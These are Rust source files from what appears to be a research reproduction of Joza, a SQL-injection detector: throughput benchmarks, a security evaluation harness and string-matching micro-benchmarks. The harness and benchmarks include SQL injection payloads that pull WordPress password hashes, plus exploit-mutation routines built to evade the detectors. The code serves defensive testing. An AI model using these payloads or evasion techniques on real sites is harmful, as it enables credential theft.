         \"throughput\": {{\"workload\": \"fresh-content comment posts\", \"requests_per_pass\": {}, \
         \"passes\": {}, \"pipe_latency_us\": {}, \"cells\": [\n{}\n    ]}},\n  \
         \"gate_direct\": {{\"workload\": \"captured SQL stream, check_batch replay\", \
         \"corpus_queries\": {}, \"cells\": [\n{}\n    ]}},\n  \
         \"stages\": {}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        args.requests,
        args.repeat,
        args.pipe_latency.as_micros(),
        json_cells(&cells),
        corpus_queries,
        json_cells(&direct_cells),
        stage_breakdown_json(&stage_stats)
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write pipeline results");
    println!("wrote {}", args.out);

    if args.min_qps > 0.0 && direct_qps_1t < args.min_qps {
        eprintln!(
            "FAIL: single-thread gate-direct throughput {direct_qps_1t:.1} q/s is below the \
             --min-qps floor {:.1}",
            args.min_qps
        );
        std::process::exit(1);
    }
    if args.min_qps > 0.0 {
        println!(
            "min-qps floor ok: {direct_qps_1t:.1} q/s >= {:.1} (single-thread gate-direct)",
            args.min_qps
        );
    }
}
