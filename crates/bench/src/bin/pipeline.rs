//! Staged-pipeline benchmark: end-to-end checked-queries/sec with the
//! full `CheckPipeline` live — static fast path, model fast path, NTI,
//! PTI, structural — against a dynamic-only baseline, plus the per-stage
//! latency/hit breakdown the pipeline's uniform stage accounting makes
//! possible.
//!
//! The workload is the benign-heavy fresh-content comment workload of
//! the `querymodel` benchmark, so the single-thread pipeline-on
//! checked-q/s cell is directly comparable with
//! `results/BENCH_querymodel.json`'s `model_on_qps`.
//!
//! Usage:
//!
//! ```text
//! pipeline [--requests N] [--repeat R] [--threads 1,4]
//!          [--pipe-latency-us US] [--out results/BENCH_pipeline.json]
//! ```

use joza_bench::report::{
    pct, provenance_json, render_table, stage_breakdown_json, stage_breakdown_rows,
};
use joza_core::{Joza, JozaConfig, JozaStats, MatchKernel, STAGE_COUNT};
use joza_lab::serve::serve_parallel;
use joza_lab::{build_lab, Lab};
use joza_sast::{analyze_app, app_query_models, taint_free_routes};
use std::time::Duration;

/// Engine shard count for the throughput cells (above the largest thread
/// count so workers never share a shard).
const SHARDS: usize = 16;

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        repeat: 2,
        threads: vec![1, 4],
        pipe_latency: Duration::from_micros(400),
        out: "results/BENCH_pipeline.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads = value().split(',').map(|t| t.parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// The fully-loaded engine: every pipeline stage assembled (query models
/// for the model fast path, statically-proven routes for the static one).
fn full_engine(lab: &Lab, pipe_latency: Duration) -> Joza {
    Joza::installer(&lab.server.app, scaled_config(pipe_latency))
        .query_models(app_query_models(&lab.server.app))
        .taint_free_routes(taint_free_routes(&analyze_app(&lab.server.app)))
        .build()
}

/// Counter deltas between two stats snapshots (the measured passes only,
/// excluding warmup).
fn delta(before: &JozaStats, after: &JozaStats) -> JozaStats {
    let mut d = *after;
    d.queries = after.queries - before.queries;
    d.model_fast_hits = after.model_fast_hits - before.model_fast_hits;
    d.static_hits = after.static_hits - before.static_hits;
    d.full_checks = after.full_checks - before.full_checks;
    for i in 0..STAGE_COUNT {
        d.stage_runs[i] = after.stage_runs[i] - before.stage_runs[i];
        d.stage_hits[i] = after.stage_hits[i] - before.stage_hits[i];
        d.stage_ns[i] = after.stage_ns[i] - before.stage_ns[i];
    }
    d
}

/// One throughput cell: dynamic-only vs full pipeline at a thread count.
#[derive(Debug)]
struct Cell {
    threads: usize,
    dynamic_qps: f64,
    pipeline_qps: f64,
    fast_rate: f64,
}

fn measure(factory: &Joza, threads: usize, args: &Args) -> (f64, JozaStats) {
    let workload = |pass: usize| joza_bench::workload::write_requests_pass(args.requests, pass);
    let _ = serve_parallel(build_lab, factory, threads, &workload(0));
    let base = factory.stats();
    let mut wall = Duration::ZERO;
    let mut queries = 0usize;
    for pass in 1..=args.repeat.max(1) {
        let reqs = workload(pass);
        let run = serve_parallel(build_lab, factory, threads, &reqs);
        wall += run.wall;
        for resp in &run.responses {
            assert!(!resp.blocked, "benign comment workload was blocked");
            queries += resp.queries.len();
        }
    }
    let d = delta(&base, &factory.stats());
    assert_eq!(
        d.model_fast_hits + d.static_hits + d.full_checks,
        d.queries,
        "path counters must partition checked queries"
    );
    let secs = wall.as_secs_f64();
    (if secs > 0.0 { queries as f64 / secs } else { 0.0 }, d)
}

fn main() {
    let args = parse_args();
    let lab = build_lab();
    println!(
        "pipeline: {} requests x {} passes, threads {:?}, pipe latency {:?}",
        args.requests, args.repeat, args.threads, args.pipe_latency
    );

    let mut cells = Vec::new();
    let mut single_thread_stats: Option<JozaStats> = None;
    for &t in &args.threads {
        let dynamic_only = Joza::install(&lab.server.app, scaled_config(args.pipe_latency));
        let (dynamic_qps, _) = measure(&dynamic_only, t, &args);
        let pipeline = full_engine(&lab, args.pipe_latency);
        let (pipeline_qps, stats) = measure(&pipeline, t, &args);
        let fast_rate =
            (stats.model_fast_hits + stats.static_hits) as f64 / stats.queries.max(1) as f64;
        if t == 1 {
            single_thread_stats = Some(stats);
        }
        cells.push(Cell { threads: t, dynamic_qps, pipeline_qps, fast_rate });
    }

    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                c.threads.to_string(),
                format!("{:.1}", c.dynamic_qps),
                format!("{:.1}", c.pipeline_qps),
                format!(
                    "{:.2}x",
                    if c.dynamic_qps > 0.0 { c.pipeline_qps / c.dynamic_qps } else { 0.0 }
                ),
                pct(c.fast_rate),
            ]
        })
        .collect();
    println!(
        "\n== gate throughput (fresh-content comment posts) ==\n{}",
        render_table(
            &["Threads", "Dynamic-only q/s", "Pipeline q/s", "Improvement", "Fast rate"],
            &rows
        )
    );

    let stage_stats = single_thread_stats.unwrap_or_else(|| {
        panic!("thread list {:?} must include 1 for the breakdown", args.threads)
    });
    println!(
        "== per-stage breakdown (single-thread, full pipeline) ==\n{}",
        render_table(
            &["Stage", "Runs", "Hits", "Hit rate", "Total", "Mean/run"],
            &stage_breakdown_rows(&stage_stats)
        )
    );

    let json_cells = cells
        .iter()
        .map(|c| {
            format!(
                "      {{\"threads\": {}, \"dynamic_qps\": {:.1}, \"pipeline_qps\": {:.1}, \
                 \"improvement\": {:.3}, \"fast_rate\": {:.4}}}",
                c.threads,
                c.dynamic_qps,
                c.pipeline_qps,
                if c.dynamic_qps > 0.0 { c.pipeline_qps / c.dynamic_qps } else { 0.0 },
                c.fast_rate
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let json = format!(
        "{{\n  \"benchmark\": \"pipeline\",\n  \"provenance\": {},\n  \
         \"throughput\": {{\"workload\": \"fresh-content comment posts\", \"requests_per_pass\": {}, \
         \"passes\": {}, \"pipe_latency_us\": {}, \"cells\": [\n{}\n    ]}},\n  \
         \"stages\": {}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        args.requests,
        args.repeat,
        args.pipe_latency.as_micros(),
        json_cells,
        stage_breakdown_json(&stage_stats)
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write pipeline results");
    println!("wrote {}", args.out);
}
