//! Table VII: Wordpress.com workload statistics and the derived
//! read/write ratio.
//!
//! The paper computes the typical read/write mix of Wordpress.com from the
//! service's published annual statistics (\[40\], \[41\] in the paper): new
//! posts, pages, comments and RPC posts are writes; page views are reads.
//! "On average, less than one percent of all requests involve writes."
//! The constants below are five-year averages in the spirit of those
//! public stats (order-of-magnitude faithful; the sources are no longer
//! retrievable verbatim).

/// Annual averages for wordpress.com-hosted blogs (millions).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WpComStats {
    /// New blog posts per year (millions).
    pub posts_m: f64,
    /// New pages per year (millions).
    pub pages_m: f64,
    /// New comments per year (millions).
    pub comments_m: f64,
    /// Posts written/read via XML-RPC (millions).
    pub rpc_posts_m: f64,
    /// Page views per year (millions).
    pub pageviews_m: f64,
}

/// Five-year average figures used by the Table VII reproduction.
pub fn five_year_average() -> WpComStats {
    WpComStats {
        posts_m: 555.0,
        pages_m: 48.0,
        comments_m: 667.0,
        rpc_posts_m: 120.0,
        pageviews_m: 152_000.0,
    }
}

impl WpComStats {
    /// Total write requests per year (millions).
    pub fn writes_m(&self) -> f64 {
        self.posts_m + self.pages_m + self.comments_m + self.rpc_posts_m
    }

    /// Total requests per year (millions).
    pub fn total_m(&self) -> f64 {
        self.writes_m() + self.pageviews_m
    }

    /// Fraction of requests that are writes.
    pub fn write_fraction(&self) -> f64 {
        self.writes_m() / self.total_m()
    }

    /// Expected overall overhead given measured per-class overheads.
    pub fn expected_overhead(&self, read_overhead: f64, write_overhead: f64) -> f64 {
        let w = self.write_fraction();
        w * write_overhead + (1.0 - w) * read_overhead
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn write_fraction_below_one_percent() {
        // The paper's headline: <1% of wordpress.com requests are writes.
        let s = five_year_average();
        assert!(s.write_fraction() < 0.01, "{}", s.write_fraction());
        assert!(s.write_fraction() > 0.001);
    }

    #[test]
    fn expected_overhead_interpolates() {
        let s = five_year_average();
        let o = s.expected_overhead(0.04, 0.12);
        assert!(o > 0.04 && o < 0.05, "{o}");
    }

    #[test]
    fn totals_consistent() {
        let s = five_year_average();
        assert!((s.total_m() - s.writes_m() - s.pageviews_m).abs() < 1e-9);
    }
}
