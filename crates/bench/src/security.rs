//! The §V security evaluation.

use joza_core::{Joza, JozaConfig};
use joza_lab::corpus::{AttackType, Exploit, VulnPlugin};
use joza_lab::nti_evasion::mutate_for_nti;
use joza_lab::taintless::evade_pti;
use joza_lab::verify::{exploit_effect_observed, request_for, verify_exploit};
use joza_lab::{build_lab, Lab};
use joza_pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza_webapp::request::HttpRequest;

/// Detection grid for one plugin — a row of Table IV.
#[derive(Debug, Clone)]
pub struct PluginOutcome {
    /// The plugin under test.
    pub plugin: VulnPlugin,
    /// Whether the shipped exploit works against the unprotected app.
    pub exploit_works: bool,
    /// NTI detection of the original exploit.
    pub nti_original: bool,
    /// NTI detection of the NTI-mutated (quote-stuffed) exploit.
    pub nti_mutated: bool,
    /// PTI detection of the original exploit.
    pub pti_original: bool,
    /// PTI detection of the Taintless-mutated exploit. When Taintless
    /// fails to adapt the exploit, the original stands in (and is
    /// detected).
    pub pti_mutated: bool,
    /// Whether Taintless managed to adapt the exploit at all.
    pub taintless_adapted: bool,
    /// Joza (hybrid) detection across original and both mutated exploits.
    pub joza_all: bool,
}

/// The full §V evaluation results.
#[derive(Debug)]
pub struct SecurityEvaluation {
    /// One row per testbed plugin.
    pub plugins: Vec<PluginOutcome>,
    /// One row per CMS case study.
    pub cms: Vec<PluginOutcome>,
}

/// Did the gate stop the attack request? Detection means at least one
/// query was not allowed through.
fn detected(lab: &mut Lab, joza: &Joza, plugin: &VulnPlugin, exploit: &Exploit) -> bool {
    let payload = exploit.primary_payload();
    let resp = lab.server.handle_with(&request_for(plugin, payload), joza);
    resp.blocked || resp.executed < resp.queries.len()
}

/// Builds the PTI analyzer over the lab's full fragment vocabulary (used
/// by Taintless to search for evading mutants).
pub fn lab_pti_analyzer(lab: &Lab) -> PtiAnalyzer {
    let mut set = joza_phpsim::fragments::FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default())
}

/// Runs the complete original/mutated × NTI/PTI/Joza grid.
pub fn evaluate() -> SecurityEvaluation {
    let mut lab = build_lab();
    let nti_only = Joza::install(&lab.server.app, JozaConfig::nti_only());
    let pti_only = Joza::install(&lab.server.app, JozaConfig::pti_only());
    let hybrid = Joza::install(&lab.server.app, JozaConfig::optimized());
    let pti_analyzer = lab_pti_analyzer(&lab);
    let threshold = hybrid.config().nti.threshold;

    let plugins = lab.plugins.clone();
    let cms = lab.cms_cases.clone();
    let mut run = |list: &[VulnPlugin]| -> Vec<PluginOutcome> {
        list.iter()
            .map(|p| {
                let exploit_works = verify_exploit(&mut lab.server, p);
                let original = p.exploit.clone();
                let nti_mut = mutate_for_nti(p, threshold);
                let taintless = evade_pti(&mut lab.server, p, &pti_analyzer);
                let taintless_adapted = taintless.is_some();
                let pti_mut = taintless.map(|e| e.mutated).unwrap_or_else(|| original.clone());

                let nti_original = detected(&mut lab, &nti_only, p, &original);
                let nti_mutated = detected(&mut lab, &nti_only, p, &nti_mut);
                let pti_original = detected(&mut lab, &pti_only, p, &original);
                let pti_mutated = detected(&mut lab, &pti_only, p, &pti_mut);
                let joza_all = detected(&mut lab, &hybrid, p, &original)
                    && detected(&mut lab, &hybrid, p, &nti_mut)
                    && detected(&mut lab, &hybrid, p, &pti_mut);
                PluginOutcome {
                    plugin: p.clone(),
                    exploit_works,
                    nti_original,
                    nti_mutated,
                    pti_original,
                    pti_mutated,
                    taintless_adapted,
                    joza_all,
                }
            })
            .collect()
    };
    let plugin_rows = run(&plugins);
    let cms_rows = run(&cms);
    SecurityEvaluation { plugins: plugin_rows, cms: cms_rows }
}

/// The Table II SQLMap sweep: for one plugin per attack type, generate
/// valid payload variants and count detections.
#[derive(Debug, Clone)]
pub struct SqlmapSweep {
    /// Plugin name.
    pub plugin: String,
    /// Attack type.
    pub attack_type: AttackType,
    /// Valid payload variants generated.
    pub generated: usize,
    /// Detected by NTI.
    pub nti_detected: usize,
    /// Detected by PTI.
    pub pti_detected: usize,
}

/// Runs the SQLMap sweep of Table II (one plugin per attack type,
/// `per_plugin` valid variants each).
pub fn sqlmap_sweep(per_plugin: usize) -> Vec<SqlmapSweep> {
    let mut lab = build_lab();
    let nti_only = Joza::install(&lab.server.app, JozaConfig::nti_only());
    let pti_only = Joza::install(&lab.server.app, JozaConfig::pti_only());
    let mut out = Vec::new();
    for ty in [
        AttackType::UnionBased,
        AttackType::StandardBlind,
        AttackType::DoubleBlind,
        AttackType::Tautology,
    ] {
        let plugin = lab
            .plugins
            .iter()
            .find(|p| p.attack_type == ty)
            .expect("corpus covers all types")
            .clone();
        let variants = joza_lab::sqlmap::valid_payloads(&mut lab.server, &plugin, per_plugin);
        let mut nti_detected = 0;
        let mut pti_detected = 0;
        for v in &variants {
            if detected(&mut lab, &nti_only, &plugin, v) {
                nti_detected += 1;
            }
            if detected(&mut lab, &pti_only, &plugin, v) {
                pti_detected += 1;
            }
        }
        out.push(SqlmapSweep {
            plugin: plugin.name.clone(),
            attack_type: ty,
            generated: variants.len(),
            nti_detected,
            pti_detected,
        });
    }
    out
}

/// The false-positive sweep (§V-B): crawl the whole site, post random
/// comments, run random searches, exercise every plugin benignly — all
/// behind full Joza — and count blocked requests.
pub fn false_positive_sweep() -> (usize, usize) {
    let mut lab = build_lab();
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let mut total = 0usize;
    let mut blocked = 0usize;
    let mut run = |req: HttpRequest| {
        let resp = lab.server.handle_with(&req, &joza);
        total += 1;
        if resp.blocked || resp.executed < resp.queries.len() {
            blocked += 1;
        }
    };
    run(HttpRequest::get("index"));
    for p in 1..=40 {
        run(HttpRequest::get("single-post").param("p", &p.to_string()));
    }
    for s in ["lorem", "post", "it's", "a,b,c", "50% off!", "O'Brien", "x AND y", "  padded  "] {
        run(HttpRequest::get("search").param("s", s));
    }
    for (author, text) in [
        ("alice", "nice post!"),
        ("o'brien", "it's genuinely great, isn't it?"),
        ("bob", "I'd say 1+1=2 -- obviously"),
        ("carol", "SELECT your words carefully ;)"),
        ("dave", "union of opinions, or not"),
    ] {
        run(HttpRequest::post("post-comment")
            .param("comment_post_ID", "2")
            .param("author", author)
            .param("comment", text));
    }
    let plugins = lab.plugins.clone();
    for p in &plugins {
        run(request_for(p, &p.benign_value));
    }
    (blocked, total)
}

/// Convenience: does the mutated exploit still *work* unprotected? Used by
/// the Table IV commentary to show the mutations are real attacks.
pub fn mutation_still_works(plugin: &VulnPlugin, exploit: &Exploit) -> bool {
    let mut lab = build_lab();
    exploit_effect_observed(&mut lab.server, plugin, exploit, None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn false_positive_sweep_is_clean() {
        let (blocked, total) = false_positive_sweep();
        assert_eq!(blocked, 0, "false positives on {blocked}/{total} benign requests");
        assert!(total > 90);
    }

    #[test]
    fn nti_mutated_exploits_still_work() {
        let lab = build_lab();
        for p in lab.plugins.iter().take(6) {
            let m = mutate_for_nti(p, 0.20);
            assert!(mutation_still_works(p, &m), "{}: NTI-mutated exploit broken", p.name);
        }
    }
}
