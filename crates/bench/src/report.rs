//! Minimal aligned-column table rendering for experiment binaries, plus
//! the provenance stamp shared by every `results/BENCH_*.json` writer.

/// The git revision of the working tree (`git rev-parse --short=12
/// HEAD`), or `"unknown"` when git is unavailable — e.g. running from an
/// exported source tarball.
pub fn git_rev() -> String {
    std::process::Command::new("git")
        .args(["rev-parse", "--short=12", "HEAD"])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "unknown".to_string())
}

/// The host's available hardware parallelism (1 when undetectable).
pub fn host_threads() -> usize {
    std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1)
}

/// Provenance stamp for `results/BENCH_*.json` files, as a single-line
/// JSON object: the git revision the numbers were produced from, the
/// host thread count, the NTI matching-kernel configuration, and the
/// phpsim serving engine the web-application simulator defaults to
/// (`vm` since the bytecode compiler landed; `tree-walk` numbers are not
/// comparable with `vm` numbers on interpreter-bound workloads). Every
/// benchmark writer embeds this under a `"provenance"` key so results
/// files stay comparable across PRs.
///
/// # Examples
///
/// ```
/// let p = joza_bench::report::provenance_json("bitparallel");
/// assert!(p.starts_with("{\"git_rev\": "));
/// assert!(p.contains("\"nti_kernel\": \"bitparallel\""));
/// assert!(p.contains("\"engine\": \"vm\""));
/// ```
pub fn provenance_json(nti_kernel: &str) -> String {
    format!(
        "{{\"git_rev\": \"{}\", \"host_threads\": {}, \"nti_kernel\": \"{}\", \"engine\": \"{}\"}}",
        git_rev(),
        host_threads(),
        nti_kernel,
        joza_webapp::Engine::default()
    )
}

/// Renders rows as an aligned text table with a header row and separator.
///
/// # Examples
///
/// ```
/// use joza_bench::report::render_table;
///
/// let t = render_table(
///     &["Attack Type", "NO. of Plugins"],
///     &[vec!["Union Based".into(), "15".into()]],
/// );
/// assert!(t.contains("Union Based"));
/// assert!(t.contains("| 15"));
/// ```
pub fn render_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let ncols = headers.len();
    let mut widths: Vec<usize> = headers.iter().map(|h| h.len()).collect();
    for row in rows {
        for (i, cell) in row.iter().enumerate().take(ncols) {
            widths[i] = widths[i].max(cell.len());
        }
    }
    let mut out = String::new();
    let fmt_row = |cells: &[String], widths: &[usize]| -> String {
        let mut line = String::from("|");
        for (i, w) in widths.iter().enumerate() {
            let empty = String::new();
            let cell = cells.get(i).unwrap_or(&empty);
            line.push_str(&format!(" {cell:<w$} |"));
        }
        line
    };
    let header_cells: Vec<String> = headers.iter().map(|h| h.to_string()).collect();
    out.push_str(&fmt_row(&header_cells, &widths));
    out.push('\n');
    out.push('|');
    for w in &widths {
        out.push_str(&"-".repeat(w + 2));
        out.push('|');
    }
    out.push('\n');
    for row in rows {
        out.push_str(&fmt_row(row, &widths));
        out.push('\n');
    }
    out
}

/// Per-stage pipeline breakdown rows for [`render_table`]: one row per
/// [`StageId`](joza_core::StageId) in execution order — runs, hits
/// (short-circuits or fires), hit rate, and total/mean latency.
pub fn stage_breakdown_rows(stats: &joza_core::JozaStats) -> Vec<Vec<String>> {
    joza_core::StageId::ALL
        .iter()
        .map(|&stage| {
            let i = stage.index();
            let (runs, hits, ns) = (stats.stage_runs[i], stats.stage_hits[i], stats.stage_ns[i]);
            vec![
                stage.name().to_string(),
                runs.to_string(),
                hits.to_string(),
                pct(hits as f64 / runs.max(1) as f64),
                format!("{:.3}ms", ns as f64 / 1e6),
                format!("{:.0}ns", ns as f64 / runs.max(1) as f64),
            ]
        })
        .collect()
}

/// The same per-stage breakdown as a JSON array (one object per stage,
/// keyed by the stage's stable snake_case name), for the
/// `results/BENCH_*.json` writers. `stage_ns` is the stage's total time
/// across all runs; `stage_hits` counts short-circuits and fires.
pub fn stage_breakdown_json(stats: &joza_core::JozaStats) -> String {
    let entries = joza_core::StageId::ALL
        .iter()
        .map(|&stage| {
            let i = stage.index();
            format!(
                "      {{\"stage\": \"{}\", \"stage_runs\": {}, \"stage_hits\": {}, \
                 \"stage_ns\": {}, \"mean_ns\": {:.0}}}",
                stage.name(),
                stats.stage_runs[i],
                stats.stage_hits[i],
                stats.stage_ns[i],
                stats.stage_ns[i] as f64 / stats.stage_runs[i].max(1) as f64
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    format!("[\n{entries}\n    ]")
}

/// Formats a ratio as a percentage with two decimals.
pub fn pct(x: f64) -> String {
    format!("{:.2}%", x * 100.0)
}

/// Yes/No rendering for detection grids.
pub fn yn(detected: bool) -> String {
    if detected { "Yes" } else { "No" }.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alignment_and_separator() {
        let t = render_table(
            &["a", "long header"],
            &[vec!["xxxxx".into(), "1".into()], vec!["y".into(), "22".into()]],
        );
        let lines: Vec<&str> = t.lines().collect();
        assert_eq!(lines.len(), 4);
        // All lines same width.
        assert!(lines.iter().all(|l| l.len() == lines[0].len()));
        assert!(lines[1].starts_with("|-"));
    }

    #[test]
    fn pct_and_yn() {
        assert_eq!(pct(0.0453), "4.53%");
        assert_eq!(yn(true), "Yes");
        assert_eq!(yn(false), "No");
    }
}
