//! Criterion micro-benchmarks for the string-matching primitives the
//! paper's §III/§VI cost analysis rests on: Levenshtein variants (NTI's
//! inner loop), Sellers semi-global substring distance vs input/query
//! length, and the three multi-pattern fragment-matching strategies.

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use joza_lab::wordpress;
use joza_phpsim::fragments::FragmentSet;
use joza_strmatch::ahocorasick::AhoCorasick;
use joza_strmatch::levenshtein::{bounded_distance, distance};
use joza_strmatch::mru::{MruScanner, NaiveScanner};
use joza_strmatch::myers::{bounded_myers_substring_distance, myers_substring_distance};
use joza_strmatch::sellers::{
    bounded_substring_distance, naive_substring_distance, substring_distance,
};

fn query(len: usize) -> String {
    let mut q = String::from("SELECT ID, post_title FROM wp_posts WHERE post_status = 'publish'");
    let mut i = 0;
    while q.len() < len {
        q.push_str(&format!(" AND post_author = {i}"));
        i += 1;
    }
    q.truncate(len);
    q
}

fn bench_levenshtein(c: &mut Criterion) {
    let mut g = c.benchmark_group("levenshtein");
    for n in [16usize, 64, 256] {
        let a = "x".repeat(n);
        let b = query(n);
        g.bench_with_input(BenchmarkId::new("full_matrix", n), &n, |bench, _| {
            bench.iter(|| distance(black_box(a.as_bytes()), black_box(b.as_bytes())))
        });
        g.bench_with_input(BenchmarkId::new("bounded_cutoff4", n), &n, |bench, _| {
            bench.iter(|| bounded_distance(black_box(a.as_bytes()), black_box(b.as_bytes()), 4))
        });
    }
    g.finish();
}

fn bench_sellers(c: &mut Criterion) {
    let mut g = c.benchmark_group("sellers_substring_distance");
    let input = "-1 UNION SELECT user_pass FROM wp_users";
    // The paper's O(n²·m²) every-substring baseline, at a size where it is
    // merely slow rather than hopeless — the complexity contrast of §III-A.
    g.bench_function("naive_n2m2_baseline/64", |bench| {
        let q = query(64);
        bench
            .iter(|| naive_substring_distance(black_box(input.as_bytes()), black_box(q.as_bytes())))
    });
    for qlen in [64usize, 256, 1024] {
        let q = query(qlen);
        g.bench_with_input(BenchmarkId::new("full", qlen), &qlen, |bench, _| {
            bench.iter(|| substring_distance(black_box(input.as_bytes()), black_box(q.as_bytes())))
        });
        g.bench_with_input(BenchmarkId::new("bounded", qlen), &qlen, |bench, _| {
            bench.iter(|| {
                bounded_substring_distance(black_box(input.as_bytes()), black_box(q.as_bytes()), 8)
            })
        });
        g.bench_with_input(BenchmarkId::new("myers", qlen), &qlen, |bench, _| {
            bench.iter(|| {
                myers_substring_distance(black_box(input.as_bytes()), black_box(q.as_bytes()))
            })
        });
        g.bench_with_input(BenchmarkId::new("myers_bounded", qlen), &qlen, |bench, _| {
            bench.iter(|| {
                bounded_myers_substring_distance(
                    black_box(input.as_bytes()),
                    black_box(q.as_bytes()),
                    8,
                )
            })
        });
    }
    // The multi-word regime: a 100-byte pattern spans two kernel blocks.
    let long_input = "-1 UNION SELECT user_login, user_pass, user_email, user_registered \
                      FROM wp_users WHERE ID=1 -- -";
    let q = query(1024);
    g.bench_function("full_multiword_100", |bench| {
        bench.iter(|| substring_distance(black_box(long_input.as_bytes()), black_box(q.as_bytes())))
    });
    g.bench_function("myers_multiword_100", |bench| {
        bench.iter(|| {
            myers_substring_distance(black_box(long_input.as_bytes()), black_box(q.as_bytes()))
        })
    });
    g.finish();
}

fn wordpress_fragments() -> Vec<String> {
    let mut set = FragmentSet::new();
    for src in wordpress::core_sources() {
        set.add_source(&src);
    }
    for src in wordpress::synthetic_core_sources(60) {
        set.add_source(&src);
    }
    set.iter().map(str::to_string).collect()
}

fn bench_fragment_matchers(c: &mut Criterion) {
    let fragments = wordpress_fragments();
    let q = "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1";
    let mut g = c.benchmark_group("fragment_matching");
    g.bench_function(format!("naive_scan_{}_fragments", fragments.len()), |b| {
        let scanner = NaiveScanner::new(&fragments);
        b.iter(|| scanner.find_all(black_box(q.as_bytes())))
    });
    g.bench_function(format!("mru_scan_{}_fragments", fragments.len()), |b| {
        let mut scanner = MruScanner::new(&fragments);
        // Warm the MRU order the way the daemon's steady state would.
        let _ = scanner.find_all(q.as_bytes());
        b.iter(|| scanner.find_all(black_box(q.as_bytes())))
    });
    g.bench_function(format!("aho_corasick_{}_fragments", fragments.len()), |b| {
        let ac = AhoCorasick::new(&fragments);
        b.iter(|| ac.find_all(black_box(q.as_bytes())))
    });
    g.bench_function("aho_corasick_build", |b| b.iter(|| AhoCorasick::new(black_box(&fragments))));
    g.finish();
}

criterion_group!(benches, bench_levenshtein, bench_sellers, bench_fragment_matchers);
criterion_main!(benches);
