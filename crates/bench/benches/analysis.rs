//! Criterion benchmarks for the analysis pipeline: SQL parse +
//! fingerprint, NTI and PTI single-query analysis, cache hit paths, and
//! the full hybrid gate check — the per-query costs behind §VI's
//! request-level numbers.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use joza_core::{Joza, JozaConfig};
use joza_lab::wordpress;
use joza_nti::{NtiAnalyzer, NtiConfig};
use joza_phpsim::fragments::FragmentSet;
use joza_pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza_pti::cache::{QueryCache, StructureCache};
use joza_pti::daemon::{PtiComponent, PtiComponentConfig};
use joza_sqlparse::fingerprint::{fingerprint, skeleton};
use joza_sqlparse::parser::parse;

const BENIGN: &str = "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1";
const ATTACK: &str = "SELECT * FROM wp_posts WHERE ID=-1 UNION SELECT user_pass FROM wp_users";

fn fragments() -> Vec<String> {
    let mut set = FragmentSet::new();
    for src in wordpress::core_sources() {
        set.add_source(&src);
    }
    for src in wordpress::synthetic_core_sources(60) {
        set.add_source(&src);
    }
    set.iter().map(str::to_string).collect()
}

fn bench_parse_fingerprint(c: &mut Criterion) {
    let mut g = c.benchmark_group("sqlparse");
    g.bench_function("parse_benign", |b| b.iter(|| parse(black_box(BENIGN))));
    g.bench_function("parse_attack", |b| b.iter(|| parse(black_box(ATTACK))));
    g.bench_function("skeleton", |b| b.iter(|| skeleton(black_box(BENIGN))));
    g.bench_function("fingerprint", |b| b.iter(|| fingerprint(black_box(BENIGN))));
    g.finish();
}

fn bench_nti(c: &mut Criterion) {
    let nti = NtiAnalyzer::new(NtiConfig::default());
    let mut g = c.benchmark_group("nti_analyze");
    g.bench_function("benign_small_inputs", |b| {
        b.iter(|| nti.analyze(black_box(&["siteurl"]), black_box(BENIGN)))
    });
    g.bench_function("attack_verbatim_input", |b| {
        b.iter(|| {
            nti.analyze(black_box(&["-1 UNION SELECT user_pass FROM wp_users"]), black_box(ATTACK))
        })
    });
    let big_input = "lorem ipsum ".repeat(100);
    let big_query = format!("SELECT ID FROM wp_posts WHERE post_content LIKE '%{big_input}%'");
    g.bench_function("large_input_large_query", |b| {
        b.iter(|| nti.analyze(black_box(&[big_input.as_str()]), black_box(&big_query)))
    });
    g.finish();
}

fn bench_pti(c: &mut Criterion) {
    let frags = fragments();
    let mut g = c.benchmark_group("pti_analyze");
    for (name, cfg) in [
        ("optimized_mru_parse_first", PtiConfig::optimized()),
        ("unoptimized_naive", PtiConfig::unoptimized()),
    ] {
